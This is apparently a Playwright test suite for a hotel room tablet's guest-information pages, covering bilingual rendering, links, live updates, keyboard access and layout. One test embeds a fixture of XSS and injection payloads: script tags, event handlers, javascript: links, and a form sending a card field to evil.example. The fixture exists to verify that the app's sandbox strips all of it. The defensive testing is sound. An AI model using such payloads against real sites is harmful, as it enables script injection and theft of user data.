"""The hotel's own pages as a guest reads them: where they can do nothing, by eye, finger and key."""

from __future__ import annotations

import asyncio
import re
from collections.abc import Coroutine
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Any, Final

from playwright.async_api import expect

from tests.browser.frames import Frames
from tests.browser.probes import SMALL
from tests.browser.screens import Screens, Tablet

if TYPE_CHECKING:
    from playwright.async_api import Frame, ViewportSize

    from hub.db.pool import Connection

JAPANESE: Final = re.compile(r"[぀-ヿ㐀-鿿]")
PHONE_SIZE: Final[ViewportSize] = {"width": 390, "height": 844}
BATH_JA: Final = """
<p>本館一階、<strong>男女入れ替え制</strong>の露天風呂です。タオルはお部屋からお持ちください。</p>
<h2>ご利用時間</h2>
<table class="wide"><caption>清掃中はご利用いただけません</caption><thead><tr><th scope="col">時間帯</th>
<th scope="col">檜の湯</th><th scope="col">岩の湯</th></tr></thead><tbody>
<tr><th scope="row">15:00〜24:00</th><td>女性</td><td>男性</td></tr>
<tr><th scope="row">5:00〜10:00</th><td>男性</td><td>女性</td></tr></tbody></table>
<h2>ご案内</h2><ul><li>浴衣でお越しいただけます</li><li>お子様は保護者の方とご一緒に</li></ul>
<p class="note">貸切風呂のご予約は<a href="tel:9">内線 9</a>、
朝食は<a href="#page=breakfast">ご朝食のご案内</a>を。</p>
<figure><img src="/static/art/seigaiha.svg" alt="青海波の文様" width="760" height="200">
<figcaption>湯けむりと波</figcaption></figure>
"""
BATH_EN: Final = """
<p>On the ground floor; <strong>men and women change over</strong> in the morning.</p>
<h2>Hours</h2><table class="wide"><tbody><tr><th scope="row">15:00-24:00</th><td>Cypress: women</td></tr>
</tbody></table><p class="note">Private baths: <a href="tel:9">dial 9</a>. See also
<a href="#page=breakfast">breakfast</a>.</p>
"""


async def write(admin: Connection, **values: Any) -> None:
    """A page of the demo hotel, as the hub would keep it, or as anything would."""
    columns = {
        "slug": "bath",
        "title_ja": "大浴場と露天風呂",
        "title_en": "Baths",
        "summary_ja": "源泉かけ流し。15時から翌朝10時まで。",
        "summary_en": "Hot springs, 3 pm to 10 am.",
        "content_ja": BATH_JA,
        "content_en": BATH_EN,
        "is_published": True,
        **values,
    }
    holders = ", ".join(f"${number}" for number in range(1, len(columns) + 1))
    await admin.execute(
        f"INSERT INTO app.pages (tenant_id, {', '.join(columns)})"
        f" SELECT id, {holders} FROM app.tenants WHERE slug <> 'platform' LIMIT 1",
        *columns.values(),
    )


async def breakfast(admin: Connection, **values: Any) -> None:
    await write(
        admin,
        **{
            "slug": "breakfast",
            "title_ja": "ご朝食",
            "title_en": "Breakfast",
            "summary_ja": "",
            "summary_en": "",
            "content_ja": "<p>7時から10時まで、一階の食事処にて。</p>",
            "content_en": "<p>From 7 to 10 on the ground floor.</p>",
            "display_order": 2,
            **values,
        },
    )


async def current(tablet: Tablet) -> None:
    """The tablet knows all pages that there are. What it shows at first may be of some time ago."""
    await expect(tablet.page.locator("html")).to_have_attribute("data-phase", "live")


async def clear(admin: Connection, tablet: Tablet | None = None) -> None:
    """The hotel has no pages, and a tablet that is there already has heard of it."""
    if tablet is not None:
        await current(tablet)
    await admin.execute("DELETE FROM app.page_histories")
    await admin.execute("DELETE FROM app.pages")
    if tablet is not None:
        await expect(tablet.page.locator(".guide-button")).to_be_hidden()


def entry(tablet: Tablet, name: str) -> Any:
    return tablet.page.locator(".guide-entry").filter(has_text=name)


async def framed(tablet: Tablet) -> Frame:
    """The frame of the page that is shown, with all that belongs to it."""
    handle = await tablet.page.locator(".guide-frame").element_handle()
    assert handle is not None
    frame = await handle.content_frame()
    assert frame is not None
    await frame.locator("html[data-theme]").wait_for(state="attached")
    await frame.wait_for_load_state()
    return frame


async def true_in(frame: Frame, condition: str) -> None:
    """Wait until something holds in a frame, which runs no script, not even one that waits."""
    async with asyncio.timeout(15):
        while not await frame.evaluate(condition):  # noqa: ASYNC110 - the frame says nothing
            await asyncio.sleep(0.05)


async def follow(tablet: Tablet, deed: Coroutine[Any, Any, None], name: str) -> None:
    """Follow a link to the page with this name. The frame goes away for it, with its process, and then nobody
    may be left to say that the key or the button was taken: the page that comes is what counts."""
    done = asyncio.create_task(deed)
    try:
        await expect(tablet.page.locator("pages-view h1")).to_have_text(name)
    finally:
        done.cancel()
        await asyncio.gather(done, return_exceptions=True)


async def read(tablet: Tablet, name: str) -> None:
    await tablet.page.locator(".guide-button").click()
    await entry(tablet, name).click()
    await expect(tablet.page.locator("pages-view h1")).to_have_text(name)


async def test_a_guest_reads_a_page(screens: Screens, tablet: Tablet, admin: Connection) -> None:
    await clear(admin, tablet)
    await write(admin)
    await breakfast(admin)
    await tablet.page.locator(".guide-button").click()
    await expect(tablet.page.locator("pages-view h1")).to_have_text("館内のご案内")
    await expect(tablet.page.locator(".guide-name")).to_have_text(["大浴場と露天風呂", "ご朝食"])
    await expect(entry(tablet, "ご朝食").locator(".guide-summary")).to_be_hidden()
    await tablet.picture("list")
    await entry(tablet, "大浴場").click()
    frame = tablet.page.frame_locator(".guide-frame")
    await expect(frame.locator("h2").first).to_have_text("ご利用時間")
    await expect(frame.locator("html")).to_have_attribute("lang", "ja")
    await expect(frame.locator("body")).to_have_css("font-size", "18px")  # its style sheet is there
    picture = frame.locator("img")
    await expect(picture).to_have_js_property("complete", True)
    assert await picture.evaluate("each => each.naturalWidth") > 0
    await tablet.picture("page-ja")
    # on a tablet nobody can dial
    await expect(frame.locator("a")).to_have_text(["ご朝食のご案内"])
    await expect(frame.get_by_text("内線 9")).to_be_visible()
    await tablet.switch_language()
    await expect(tablet.page.locator("pages-view h1")).to_have_text("Baths")
    await expect(frame.locator("html")).to_have_attribute("lang", "en")
    await expect(frame.locator("h2")).to_have_text("Hours")
    await tablet.picture("page-en")
    assert not JAPANESE.search(await tablet.page.locator("pages-view").inner_text())


async def test_a_link_leads_to_another_page_and_back_to_the_menu(tablet: Tablet, admin: Connection) -> None:
    await clear(admin, tablet)
    await write(admin)
    await breakfast(admin)
    await read(tablet, "大浴場と露天風呂")
    link = tablet.page.frame_locator(".guide-frame").get_by_role("link", name="ご朝食のご案内")
    await follow(tablet, link.click(), "ご朝食")
    await expect(tablet.page.frame_locator(".guide-frame").locator("p")).to_contain_text("7時から10時")
    await expect(tablet.page).to_have_url(re.compile(r"^[^#]+$"))
    await tablet.page.locator("pages-view .back").click()
    await expect(tablet.page.locator("pages-view h1")).to_have_text("館内のご案内")
    await tablet.page.locator("pages-view .back").click()
    await expect(tablet.page.locator("dish-card").first).to_be_visible()
    await read(tablet, "大浴場と露天風呂")
    await tablet.becomes("history.state?.page === 'guide'")
    await tablet.page.go_back()
    await expect(tablet.page.locator("dish-card").first).to_be_visible()


TAKEN_APART: Final = re.compile(r"inline event handler|inline style|document's base URI")
EVIL: Final = """
<p class="note">湯</p>
<script>parent.document.title = 'evil'; top.evil = 1</script>
<img src="x" onerror="parent.evil = 2"><svg onload="parent.evil = 3"></svg>
<a id="out" href="https://evil.example/" target="_top">出口</a>
<a id="js" href="javascript:parent.evil=4" target="_top">実行</a>
<a id="claim" href="#claim=stolen" target="_top">登録</a>
<a id="staff" href="/staff" target="_top">係</a>
<form action="https://evil.example/" target="_top"><input name="card"><button id="send">送信</button></form>
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css"><style>p { display: none }</style>
<img id="far" src="https://evil.example/pixel.png">
"""


async def test_whoever_has_written_it_it_can_do_nothing(
    screens: Screens, tablet: Tablet, admin: Connection
) -> None:
    """As it never gets past the hub: written into the database by somebody else. Nothing is even tried: the
    console says no more than what the page has seen and dropped while it took it apart."""
    asked: list[str] = []
    tablet.page.on("request", lambda request: asked.append(request.url))
    await clear(admin, tablet)
    await write(admin, content_ja=EVIL)
    await read(tablet, "大浴場と露天風呂")
    frame = await framed(tablet)
    await frame.locator(".note").wait_for()
    assert await frame.locator(".note").is_visible(), "no style of its own"
    unwanted = "script, form, iframe, object, meta, base, style, svg, input, img, [onerror], [onload], [id]"
    assert await frame.locator(unwanted).count() == 0
    assert await frame.evaluate("[self.origin, location.href]") == ["null", "about:srcdoc"]
    assert await frame.evaluate("document.querySelectorAll('a').length") == 0, "no link but the two kinds"
    for text in ("出口", "実行", "登録", "係"):
        await frame.get_by_text(text).click()
    sandbox = await tablet.page.locator(".guide-frame").get_attribute("sandbox")
    assert sandbox is not None
    assert not {"allow-scripts", "allow-same-origin", "allow-forms", "allow-popups", "allow-modals"} & set(
        sandbox.split()
    )
    await tablet.page.locator("pages-view .back").click()
    assert await tablet.page.evaluate("[window.evil, document.title]") == [None, "ルームサービス"]
    assert tablet.page.url.endswith("/tablet")
    assert not [url for url in asked if "evil.example" in url]
    screens.errors[:] = [text for text in screens.errors if not TAKEN_APART.search(text)]


async def test_a_page_appears_changes_and_goes_while_it_is_read(tablet: Tablet, admin: Connection) -> None:
    await clear(admin, tablet)
    await write(admin)
    await read(tablet, "大浴場と露天風呂")
    await admin.execute("UPDATE app.pages SET content_ja = '<p>本日は清掃のため休みます。</p>'")
    frame = tablet.page.frame_locator(".guide-frame")
    await expect(frame.locator("p").first).to_have_text("本日は清掃のため休みます。")
    await admin.execute("UPDATE app.pages SET is_published = false")
    await expect(tablet.page.locator(".guide-none")).to_have_text("ただいまご案内はございません")
    await expect(tablet.page.locator("#announcer")).to_have_text("このご案内は終了しました。")
    await expect(tablet.page.locator(".guide-frame")).to_have_count(0)
    await tablet.picture("none")
    await admin.execute(
        "UPDATE app.pages SET is_published = true, published_at = now() + interval '1 second'"
    )
    await expect(tablet.page.locator(".guide-name")).to_have_text("大浴場と露天風呂")


async def test_a_page_is_over_at_its_moment_also_when_the_hub_says_nothing(
    screens: Screens, room: str, admin: Connection
) -> None:
    await clear(admin)
    await write(admin, expires_at=datetime.now(UTC) + timedelta(hours=1))
    frames = Frames()
    tablet = await screens.tablet(room, frames=frames)
    await current(tablet)
    await tablet.page.locator(".guide-button").click()
    await expect(tablet.page.locator(".guide-entry")).to_have_count(1)
    ends = (datetime.now(UTC) + timedelta(seconds=5)).isoformat()
    frames.change("page", lambda page: page.update(expires_at=ends))
    await expect(tablet.page.locator(".guide-entry")).to_have_count(1)
    await expect(tablet.page.locator(".guide-entry")).to_have_count(0, timeout=30_000)


async def test_pages_of_other_floors_are_for_other_floors(
    screens: Screens, room: str, admin: Connection
) -> None:
    await clear(admin)
    await admin.execute(
        "UPDATE app.device_rooms SET floor = '12' WHERE room_number = $1 AND device_type = 'tablet'", room
    )
    await write(admin, floors=["11", "12"])
    await breakfast(admin, floors=["2"])
    await breakfast(admin, slug="late", title_ja="レイトチェックアウト")
    tablet = await screens.tablet(room)
    await current(tablet)
    await tablet.page.locator(".guide-button").click()
    await expect(tablet.page.locator(".guide-name")).to_have_text(
        ["大浴場と露天風呂", "レイトチェックアウト"]
    )


async def test_by_keyboard(tablet: Tablet, admin: Connection) -> None:
    await clear(admin, tablet)
    await write(admin, content_ja=BATH_JA + "<p>続き</p>" * 60)
    await breakfast(admin)
    page = tablet.page
    await expect(page.locator(".guide-button")).to_be_visible()
    await page.locator(".guide-button").focus()
    await page.keyboard.press("Enter")
    await expect(page.locator("pages-view h1")).to_be_focused()
    await page.keyboard.press("Tab")
    await expect(page.locator(".guide-entry").first).to_be_focused()
    await page.keyboard.press("Enter")
    await expect(page.locator("pages-view h1")).to_have_text("大浴場と露天風呂")
    await expect(page.locator("pages-view h1")).to_be_focused()
    frame = await framed(tablet)
    await frame.locator("h2").first.wait_for()
    await page.keyboard.press("Tab")
    await expect(page.locator(".guide-frame")).to_be_focused()
    await true_in(frame, "document.hasFocus()")
    for _ in range(3):
        await page.keyboard.press("PageDown")
    await true_in(frame, "document.scrollingElement.scrollTop > 200")
    for _ in range(2):  # the frame itself is a stop, because it scrolls
        if await frame.evaluate("document.activeElement.localName") != "a":
            await page.keyboard.press("Tab")
    assert await frame.evaluate("document.activeElement.textContent") == "ご朝食のご案内"
    await follow(tablet, page.keyboard.press("Enter"), "ご朝食")
    await expect(page.locator(".guide-frame")).to_have_attribute("title", "ご朝食")
    assert await page.evaluate(SMALL, 48) == []


async def test_at_night_and_in_letters_twice_as_large(screens: Screens, room: str, admin: Connection) -> None:
    await clear(admin)
    await write(admin)
    frames = Frames()
    tablet = await screens.tablet(room, frames=frames)
    await current(tablet)
    await read(tablet, "大浴場と露天風呂")
    now = datetime.now(UTC)
    night = {
        "night_start": f"{now - timedelta(hours=2):%H:%M}",
        "night_end": f"{now + timedelta(hours=2):%H:%M}",
    }
    frames.change("hotel", lambda hotel: hotel.update(time_zone="UTC", **night))
    frame = tablet.page.frame_locator(".guide-frame")
    await expect(frame.locator("html")).to_have_attribute("data-theme", "night")
    dark = await tablet.page.evaluate("getComputedStyle(document.body).backgroundColor")
    await expect(frame.locator("body")).to_have_css("background-color", dark)
    await tablet.picture("night")
    await tablet.page.evaluate("document.documentElement.style.fontSize = '32px'")
    await tablet.switch_language()
    await expect(frame.locator("html")).to_have_class("text-32")
    await expect(frame.locator("body")).to_have_css("font-size", "36px")
    await tablet.picture("large")
    wide = await (await framed(tablet)).evaluate(
        "document.scrollingElement.scrollWidth - document.scrollingElement.clientWidth"
    )
    assert wide == 0, "nothing is cut off at the side"


async def test_on_a_phone(screens: Screens, room: str, admin: Connection) -> None:
    await clear(admin)
    await write(admin)
    await breakfast(admin)
    tablet = await screens.tablet(room, size=PHONE_SIZE)
    await current(tablet)
    await tablet.page.locator(".guide-button").click()
    await tablet.picture("phone-list")
    await entry(tablet, "大浴場").click()
    frame = await framed(tablet)
    await frame.locator("h2").first.wait_for()
    await tablet.picture("phone-page")
    for place in (tablet.page.main_frame, frame):
        wide = await place.evaluate(
            "document.scrollingElement.scrollWidth - document.scrollingElement.clientWidth"
        )
        assert wide == 0
